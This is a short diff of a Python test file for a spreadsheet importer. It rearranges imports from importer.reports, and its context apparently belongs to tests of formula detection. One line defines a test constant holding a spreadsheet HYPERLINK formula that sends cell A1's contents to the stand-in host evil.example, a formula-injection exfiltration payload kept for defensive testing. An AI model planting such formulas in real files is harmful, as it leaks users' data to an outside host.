@@ -10,8 +10,10 @@ from made_runs import at, book, checked, csv_table, outcome, run, table
 from openpyxl import load_workbook
 
 from importer.model import Problem, Status
-from importer.reports import Folder, files_read, rejected, summarised
+from importer.reports import rejected
+from importer.reports.folder import Folder
 from importer.reports.matched import matched
+from importer.reports.summary import files_read, summarised
 from importer.safe_text import is_formula, read
 
 NASTY = '=HYPERLINK("http://evil.example/?"&A1,"click")'
